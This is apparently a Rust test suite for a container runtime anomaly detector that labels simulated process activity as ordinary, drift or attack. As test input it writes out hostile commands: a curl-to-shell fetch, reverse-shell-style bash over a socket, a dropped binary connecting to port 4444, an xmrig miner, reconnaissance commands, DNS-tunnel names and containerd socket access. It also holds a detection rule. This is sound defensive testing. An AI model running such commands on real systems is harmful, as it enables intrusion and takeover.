//! Verdicts: what the model says of ordinary work, drifts and attacks, and that it says so for a reason.

mod archive;
mod commons;
mod containers;
mod decisions;
mod declared;
mod feedback;
mod images;
mod jobs;
mod namespaces;
mod others;
mod rhythm;
mod rows;
mod scene;
mod scripts;
mod stories;
mod world;

use plumbline_model::{
    BaselineState, Indicators, Params, Verdict,
    event::{Action, Batch, Call, CallKind, Loss, ProcessFlags, Source, Untold},
};
use scene::Scene;
use std::sync::Arc;
use world::{REPOSITORY, World};

const PUBLIC: Action<'static> = Action::Connect { address: "93.184.216.34", port: 4444, name: "" };

#[test]
fn ordinary_work_of_a_learned_image_is_silent_in_new_containers_too() {
    let mut world = World::learned();
    let server = world.serve(3);
    let health = world.spawn(server, "/usr/bin/health", &["health", "--port", "80"], 0);
    world.exec(health);
    assert_eq!(world.verdicts(), []);
}

#[test]
fn an_operator_who_edits_the_configuration_in_place_is_one_drift() {
    let mut world = World::learned();
    let shell = world.session(0, "/bin/sh", &["sh", "-c", "sed -i s/a/b/ /etc/web.conf"], 0);
    world.exec(shell);
    let sed = world.spawn(shell, "/bin/sed", &["sed", "-i", "s/a/b/", "/etc/web.conf"], 0);
    world.exec(sed);
    let verdicts = world.verdicts();
    assert_eq!(verdicts.len(), 1);
    assert_eq!(verdicts[0].0, Verdict::Drift);
    assert_eq!(verdicts[0].1.findings.len(), 2);
    assert!(world.evidence().contains(&"runtime_exec_session".to_owned()));
}

#[test]
fn a_known_program_with_new_arguments_is_a_drift_with_what_was_expected() {
    let mut world = World::learned();
    let server = world.serve(0);
    let health = world.spawn(server, "/usr/bin/health", &["health", "--debug"], 0);
    world.exec(health);
    let verdicts = world.verdicts();
    assert_eq!(verdicts.len(), 1);
    assert_eq!(verdicts[0].0, Verdict::Drift);
    assert_eq!(verdicts[0].1.findings[0].expected[0].value, "--port <num>");
}

#[test]
fn a_dropped_binary_that_connects_out_is_an_attack_even_from_an_exec_session() {
    let mut world = World::learned();
    let shell = world.session(0, "/bin/sh", &["sh", "-c", "/tmp/x"], 0);
    world.exec(shell);
    let dropped = world.spawn(shell, "/tmp/x", &["/tmp/x"], ProcessFlags::UPPER_LAYER);
    world.exec(dropped);
    world.act(dropped, PUBLIC);
    let verdicts = world.verdicts();
    assert_eq!(verdicts.len(), 1, "one incident for one chain");
    assert_eq!(verdicts[0].0, Verdict::Attack);
    assert!(verdicts[0].1.probabilities.attack > 0.9);
}

#[test]
fn a_shell_below_the_server_is_an_attack_and_what_follows_joins_it() {
    let mut world = World::learned();
    let server = world.serve(1);
    let shell = world.spawn(server, "/bin/sh", &["sh", "-c", "id; uname -a; whoami"], 0);
    world.exec(shell);
    for (path, arguments) in [
        ("/usr/bin/id", &["id"][..]),
        ("/bin/uname", &["uname", "-a"][..]),
        ("/usr/bin/whoami", &["whoami"][..]),
    ] {
        let tool = world.spawn(shell, path, arguments, 0);
        world.exec(tool);
    }
    let verdicts = world.verdicts();
    assert_eq!(verdicts.len(), 1);
    assert_eq!(verdicts[0].0, Verdict::Attack);
    let evidence = world.evidence();
    for name in ["service_started_shell", "reconnaissance_sequence", "service_looked_around"] {
        assert!(evidence.iter().any(|item| item == name), "{name} is missing in {evidence:?}");
    }
}

#[test]
fn a_dropped_binary_during_learning_is_an_attack_for_there_is_no_amnesty() {
    let mut world = World::new();
    let server = world.serve(0);
    let dropped = world.spawn(server, "/tmp/.x", &["[kworker]"], ProcessFlags::MEMFD);
    world.exec(dropped);
    world.act(dropped, PUBLIC);
    let verdicts = world.verdicts();
    assert_eq!(verdicts.len(), 1);
    assert_eq!(verdicts[0].0, Verdict::Attack);
    assert!(verdicts[0].1.caveats.iter().any(|caveat| caveat.contains("still learning")));
}

#[test]
fn what_was_judged_an_attack_never_enters_the_baseline() {
    let mut world = World::learned();
    let known = |world: &World| {
        let image = world.model.image(REPOSITORY, world.digest).unwrap();
        world.model.summary(image).dimensions.iter().map(|d| d.behaviours).sum::<u64>()
    };
    let before = known(&world);
    for round in 0..5 {
        let server = world.serve(2);
        let shell = world.spawn(server, "/bin/bash", &["bash", "-i"], ProcessFlags::SOCKET_STDIO);
        world.exec(shell);
        assert_eq!(known(&world), before, "round {round}");
    }
    assert_eq!(world.verdicts().len(), 1, "the same news from the same container is one incident");
    assert_eq!(world.verdicts()[0].1.events, 4, "repeats are told at one, two and four, not each time");
}

#[test]
fn what_looked_harmless_is_forgotten_when_its_incident_turns_out_otherwise() {
    let mut world = World::new();
    let server = world.serve(0);
    let shell = world.spawn(server, "/bin/ash", &["ash"], 0);
    world.exec(shell);
    let tool = world.spawn(shell, "/bin/odd", &["odd"], 0);
    assert!(world.exec(tool).incidents.is_empty(), "while learning, a new tool is not alerted");
    let image = format!("{:?}", world.model.image(REPOSITORY, world.digest).unwrap());
    assert!(image.contains("/bin/odd"));
    let dropped = world.spawn(shell, "/tmp/x", &["/tmp/x"], ProcessFlags::MEMFD);
    world.exec(dropped);
    world.act(dropped, PUBLIC);
    assert_eq!(world.verdicts()[0].0, Verdict::Attack);
    let tables = world.model.summary(world.model.image(REPOSITORY, world.digest).unwrap());
    let spawns = tables.dimensions[0].behaviours;
    assert_eq!(spawns, 1, "only the server's own start is left");
}

#[test]
fn a_new_version_starts_from_what_its_predecessor_does() {
    let mut world = World::learned();
    world.digest = "sha256:v2";
    let server = world.serve(0);
    for _ in 0..20 {
        world.close_windows(false);
    }
    let health = world.spawn(server, "/usr/bin/health", &["health", "--port", "80"], 0);
    world.exec(health);
    assert_eq!(world.verdicts(), []);
    assert_eq!(world.state(), BaselineState::Learning, "the new version has a baseline of its own");
}

#[test]
fn windows_with_losses_teach_nothing() {
    let mut world = World::new();
    world.serve(0);
    world.close_windows(true);
    world.close_windows(false);
    let image = world.model.image(REPOSITORY, world.digest).unwrap();
    let summary = world.model.summary(image);
    assert_eq!((summary.exposures, summary.exposures_lossy), (4, 4));
}

#[test]
fn what_nobody_watches_is_never_learned_and_is_named_beside_a_verdict() {
    let untold = Untold(Untold::LAYERS | Untold::RIGHTS_CHANGES | Untold::CALLS);
    let mut world = World::learned_from(Source { name: "falco", untold });
    let summary = world.model.summary(world.model.image(REPOSITORY, world.digest).unwrap());
    let unwatched: Vec<&str> = summary
        .dimensions
        .iter()
        .filter(|dimension| dimension.state == BaselineState::Unwatched)
        .map(|dimension| dimension.dimension.name())
        .collect();
    assert_eq!(unwatched, ["origin", "identity", "call"]);
    assert_eq!(summary.state, BaselineState::Stable, "what is watched has been learned");
    for dimension in &summary.dimensions {
        let watched = dimension.state != BaselineState::Unwatched;
        assert_eq!(dimension.exposures, if watched { summary.exposures } else { 0 });
    }
    // A kernel source takes over: what it alone shows is only beginning to be learned.
    world.source = Source::default();
    world.close_windows(false);
    assert_eq!(world.state(), BaselineState::Learning);
    let origin = &world.model.summary(world.model.image(REPOSITORY, world.digest).unwrap()).dimensions[2];
    assert_eq!((origin.state, origin.exposures), (BaselineState::Learning, 4));

    world.source = Source { name: "falco", untold };
    let server = world.serve(0);
    let shell = world.spawn(server, "/bin/sh", &["sh", "-i"], ProcessFlags::SOCKET_STDIO);
    world.exec(shell);
    let (verdict, incident) = world.verdicts().remove(0);
    assert_eq!(verdict, Verdict::Attack);
    let caveats = incident.caveats.join("\n");
    assert!(
        caveats.contains(
            "the source falco does not tell changes of rights, whether a file was in the image, system calls"
        ),
        "{caveats}"
    );
    assert!(incident.findings.iter().all(|finding| finding.dimension.name() != "origin"));
}

#[test]
fn losses_are_named_in_the_verdict() {
    let mut world = World::learned();
    let lost = Batch { losses: vec![Loss { container: None, events: 7 }], ..world.batch() };
    world.apply(lost);
    let shell = world.session(0, "/bin/sh", &["sh"], ProcessFlags::TERMINAL);
    world.exec(shell);
    assert!(
        world.verdicts()[0].1.caveats.iter().any(|caveat| caveat.contains("7 events")),
        "{:?}",
        world.told
    );
}

#[test]
fn a_busy_loop_teaches_no_more_than_one_execution_a_window() {
    let observations = |repeats: usize| {
        let mut world = World::new();
        let server = world.serve(0);
        for _ in 0..repeats {
            let tool = world.spawn(server, "/bin/tool", &["tool"], 0);
            world.exec(tool);
        }
        let image = world.model.image(REPOSITORY, world.digest).unwrap();
        world.model.summary(image).dimensions.iter().map(|d| d.observations).sum::<u64>()
    };
    assert_eq!(observations(1), observations(500));
}

#[test]
fn names_that_carry_data_make_a_tunnel_only_below_one_another() {
    let tunnel = |names: &[&'static str]| {
        let mut world = World::learned();
        let server = world.serve(0);
        names.iter().for_each(|name| drop(world.act(server, Action::Resolve { name })));
        world.evidence().contains(&"data_in_domain_names".to_owned())
    };
    let (a, b) = ("7569643d3028726f6f74.t.example", "29206769643d302872.t.example");
    assert!(tunnel(&[a, b, "6f74292067726f7570.t.example"]));
    assert!(!tunnel(&[a, b, "6f74292067726f7570.other.example", "d111111abcdef8.t.example"]));
}

#[test]
fn an_address_without_a_name_is_excused_only_where_the_start_was_missed() {
    // The excuse was once remembered with the event, and held for containers that had been watched from the start.
    let connect = |name| Action::Connect { address: "93.184.216.34", port: 443, name };
    let mut world = World::new();
    let server = world.serve(0);
    for _ in 0..2 {
        world.act(server, connect("api.example"));
        world.close_windows(false);
    }
    let mut world = world.learn();
    let servers: Vec<usize> = (0..4).map(|container| world.serve(container)).collect();
    world.late = Some(2);
    world.act(servers[2], connect(""));
    assert_eq!(world.verdicts(), [], "a name that could not be known was missed");
    world.late = None;
    world.act(servers[1], connect(""));
    assert_eq!(world.verdicts()[0].0, Verdict::Drift, "news passed for what was excused elsewhere");
}

#[test]
fn who_started_what_was_found_running_is_no_news_and_what_is_unknown_is() {
    let mut world = World::learned();
    let server = world.serve(0);
    let worker = world.spawn(server, "/usr/sbin/web", &["web: worker process"], ProcessFlags::PRIMED);
    let orphan = world.spawn(worker, "/usr/bin/health", &["health", "--port", "80"], ProcessFlags::PRIMED);
    world.exec(worker);
    world.exec(orphan);
    assert_eq!(world.verdicts(), []);
    let miner = world.spawn(server, "/tmp/xmrig", &["xmrig"], ProcessFlags::PRIMED);
    world.exec(miner);
    assert_eq!(world.verdicts()[0].0, Verdict::Attack);
}

#[test]
fn a_quiet_hour_ends_an_incident() {
    let mut world = World::learned();
    let quiet = Params::default().quiet_windows + 2;
    for expected in 1..3 {
        let shell = world.session(0, "/bin/sh", &["sh"], 0);
        world.exec(shell);
        assert_eq!(world.verdicts().len(), expected);
        (0..quiet).for_each(|_| world.close_windows(false));
    }
}

#[test]
fn the_same_batches_give_the_same_state_and_the_same_words() {
    let run = || {
        let mut world = World::learned();
        let shell = world.session(0, "/bin/sh", &["sh", "-c", "curl http://10.0.0.1/x | sh"], 0);
        world.exec(shell);
        let states: Vec<_> = world.model.images().map(|image| postcard::to_stdvec(image).unwrap()).collect();
        (states, world.told)
    };
    assert!(run() == run());
}

#[test]
fn a_stored_state_goes_on_as_if_it_had_never_been_stored() {
    let mut kept = World::learned();
    let mut stored = World::learned();
    stored.restore();
    for world in [&mut kept, &mut stored] {
        let shell = world.session(0, "/bin/sh", &["sh"], 0);
        world.exec(shell);
    }
    assert_eq!(kept.told, stored.told);
}

#[test]
fn what_happens_all_the_time_is_no_news_and_what_escapes_is_an_attack() {
    let call = |kind, error, subject| Action::Call(Call { kind, error, subject, detail: "" });
    let mut world = World::learned();
    let server = world.serve(0);
    world.act(server, call(CallKind::ExecFailed, 2, "/usr/local/bin/health"));
    world.act(server, call(CallKind::UnixConnect, 0, "/run/systemd/notify"));
    assert!(world.verdicts().iter().all(|(verdict, _)| *verdict != Verdict::Attack));
    let mut world = World::learned();
    let server = world.serve(0);
    world.act(server, call(CallKind::UnixConnect, 0, "/run/containerd/containerd.sock"));
    assert_eq!(world.verdicts()[0].0, Verdict::Attack);
}

/// A rule of somebody's own.
const RULE: &str = "
title: The shop's own tool for repairs
logsource: {category: process_creation, product: linux}
detection:
    tool: {Image|endswith: /mend}
    condition: tool
tags: [attack.t1059]
level: ";

#[test]
fn a_rule_that_hits_turns_a_drift_into_an_attack_and_says_why() {
    let judged = |level: &str| {
        let mut rules = Indicators::default();
        if !level.is_empty() {
            assert_eq!(rules.add("own.yml", &format!("{RULE}{level}")).rules, 1);
        }
        let mut world = World::with_rules(&Arc::new(rules)).learn();
        let server = world.serve(0);
        let mend = world.spawn(server, "/tmp/mend", &["mend", "--all"], 0);
        world.exec(mend);
        world.verdicts().remove(0)
    };
    let (verdict, incident) = judged("");
    assert_eq!(verdict, Verdict::Drift, "{:?}", incident.evidence);
    assert!(incident.evidence.iter().all(|item| !item.name.starts_with("indicator")));
    let (verdict, incident) = judged("critical");
    assert_eq!(verdict, Verdict::Attack, "{:?}", incident.evidence);
    let item = incident.evidence.iter().find(|item| item.name == "indicator_critical").unwrap();
    assert_eq!(item.fact, "The shop's own tool for repairs: mend --all");
    assert_eq!(item.technique, "T1059");
}

#[test]
fn no_rule_gives_a_verdict_alone_and_none_is_asked_of_what_is_known() {
    let mut rules = Indicators::default();
    rules.add("own.yml", &format!("{RULE}critical"));
    rules.add("own.yml", &format!("{}critical", RULE.replace("/mend", "/health")));
    let mut world = World::with_rules(&Arc::new(rules)).learn();
    let server = world.serve(0);
    let health = world.spawn(server, "/usr/bin/health", &["health", "--port", "80"], 0);
    world.exec(health);
    assert_eq!(world.verdicts(), [], "a rule was asked of known behaviour");
    let mend = world.session(0, "/usr/bin/mend", &["mend"], 0);
    world.exec(mend);
    assert_eq!(world.verdicts()[0].0, Verdict::Drift);
    assert_eq!(world.evidence(), ["indicator_critical", "runtime_exec_session"]);
}

/// A person's first shell in an image whose checks come by `docker exec` each minute was a false alert, near certainty.
#[test]
fn what_is_started_all_the_time_says_little_of_what_a_person_types() {
    let surprise = |line| {
        let habits =
            ["every window: operator runs /usr/bin/check", "every window: web runs /bin/sh /srv/cgi/stock"];
        let incident = Scene::of(habits.into_iter().chain([line])).play().swap_remove(0);
        incident.findings.iter().map(|finding| finding.surprise_bits).sum::<f64>()
    };
    let (started, typed) = (surprise("operator runs /bin/sh"), surprise("operator runs /bin/sh [terminal]"));
    assert!(typed < started - 4.0, "{typed} bits at a terminal, {started} without");
}

#[test]
fn what_two_servers_learned_apart_is_all_known_once_merged() {
    let learned = |path: &'static str| {
        World::new().learn_for(world::STABLE_WINDOWS, move |world, server| {
            let tool = world.spawn(server, path, &["tool"], 0);
            world.exec(tool);
        })
    };
    let (mut here, there) = (learned("/usr/bin/report"), learned("/usr/bin/thumbnail"));
    let state = |world: &World| world.model.image(REPOSITORY, world.digest).unwrap().clone();
    here.model.load(state(&here).merged(&state(&there), &Params::default()).unwrap());
    let server = here.latest("web").unwrap();
    for path in ["/usr/bin/report", "/usr/bin/thumbnail", "/usr/bin/other"] {
        assert_eq!(here.verdicts(), [], "before {path}");
        let tool = here.spawn(server, path, &["tool"], 0);
        here.exec(tool);
    }
    assert_eq!(here.verdicts()[0].0, Verdict::Drift, "what neither knew is news");
}
